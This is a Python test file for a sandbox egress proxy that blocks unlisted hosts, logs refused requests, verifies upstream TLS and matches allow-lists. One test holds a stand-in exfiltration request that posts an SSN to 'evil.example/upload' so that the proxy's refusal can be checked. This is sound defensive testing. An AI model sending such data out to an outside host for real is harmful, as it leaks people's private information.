"""Egress: refused unless routed or allow-listed; allowed hosts forwarded for real, TLS verified."""

from __future__ import annotations

import base64
import http.server
import ipaddress
import socket
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from mitmproxy import certs, exceptions
from mitmproxy.test import taddons

from sandbox.proxy.egress import Egress
from sandbox.proxy.route import Routes
from tests.proxy.conftest import agent, raw_connect


@pytest.mark.slow
def test_unknown_host_is_refused_and_logged(world, episode):
    response = agent(world.proxy, episode).post("https://evil.example/upload", json={"ssn": "123"}, timeout=10)
    assert response.status_code == 403
    error = response.json()["error"]
    assert error["type"] == "sandbox_egress_refused" and error["host"] == "evil.example"
    assert "evil.example" in error["message"] and "--allow-host evil.example" in error["hint"]
    [row] = world.episodes.ledger(episode)
    assert (row["outcome"], row["status"], row["host"], row["path"]) == ("refused", 403, "evil.example", "/upload")
    assert row["request_body"] == b'{"ssn": "123"}'  # what the agent tried to send out is on record


@pytest.mark.slow
def test_allow_listed_host_is_forwarded(world, episode):
    response = agent(world.proxy, episode).get(f"http://127.0.0.1:{world.internet.port}/hello?x=1", timeout=10)
    assert response.status_code == 200 and response.json()["path"] == "/hello?x=1"
    assert world.internet.last().path == "/hello?x=1"
    [row] = world.episodes.ledger(episode)
    assert (row["outcome"], row["status"], row["service"]) == ("forwarded", 200, None)


@contextmanager
def _tls_server_with_untrusted_cert(tmp_path) -> Iterator[tuple[int, list]]:
    """An HTTPS server on 127.0.0.1 whose certificate comes from a CA nobody trusts."""
    store = certs.CertStore.from_store(tmp_path / "other-ca", "other", 2048)
    entry = store.get_cert("127.0.0.1", [x509.IPAddress(ipaddress.ip_address("127.0.0.1"))])
    cert_file, key_file = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert_file.write_bytes(entry.cert.to_pem())
    key_file.write_bytes(
        entry.privatekey.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    reached: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            reached.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert_file, key_file)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    server.handle_error = lambda *args: None  # the proxy's failed handshake is expected
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], reached
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.slow
def test_upstream_tls_is_verified(world, episode, tmp_path):
    with _tls_server_with_untrusted_cert(tmp_path) as (port, reached):
        response = agent(world.proxy, episode).get(f"https://127.0.0.1:{port}/secret", timeout=10)
    assert response.status_code == 502
    assert reached == []
    [row] = world.episodes.ledger(episode)
    assert row["outcome"] == "error" and "certificate" in row["error"].lower()


@pytest.mark.slow
def test_raw_tcp_to_an_unlisted_host_never_connects(world, episode):
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    with listener, socket.create_connection(("127.0.0.1", world.proxy.port), timeout=10) as sock:
        # "localhost" is not allow-listed (127.0.0.1 is): the backstop must refuse the connection.
        credentials = base64.b64encode(f"{episode.id}:{episode.token}".encode())
        sock.sendall(
            b"CONNECT localhost:%d HTTP/1.1\r\nHost: localhost\r\nProxy-Authorization: Basic %s\r\n\r\n"
            % (port, credentials)
        )
        assert sock.recv(4096).startswith(b"HTTP/1.1 200")
        sock.sendall(b"\x00\x01 not http, not tls\r\n")
        assert sock.recv(4096) == b""  # closed by the proxy
        with pytest.raises(TimeoutError):
            listener.accept()
    [row] = world.episodes.ledger(episode)
    assert (row["method"], row["scheme"], row["host"], row["outcome"]) == ("CONNECT", "tcp", "localhost", "refused")
    assert "egress refused" in row["error"]


@pytest.mark.slow
def test_connect_without_tls_to_a_refused_host_is_answered_inside(world, episode):
    status, _, _ = raw_connect(world.proxy, "evil.example:443", f"{episode.id}:{episode.token}")
    assert status == 200  # the tunnel opens; the refusal comes with the first request, readable by the agent


def test_allow_list_matching():
    egress = Egress(Routes({}, {}))
    with taddons.context(egress) as tctx:
        tctx.configure(egress, egress_allow_hosts=["Example.org", "*.corp.test", "10.0.0.1"])
        assert egress.allowed("example.org") and egress.allowed("EXAMPLE.ORG.")
        assert not egress.allowed("www.example.org")
        assert egress.allowed("a.corp.test") and egress.allowed("a.b.corp.test")
        assert not egress.allowed("corp.test") and not egress.allowed("evilcorp.test")
        assert egress.allowed("10.0.0.1") and not egress.allowed("10.0.0.2")
        with pytest.raises(exceptions.OptionsError, match="egress_allow_hosts"):
            tctx.configure(egress, egress_allow_hosts=["https://example.org/"])
    tctx.master.event_loop.close()  # taddons makes a loop it never closes; unclosed, it warns in a later test
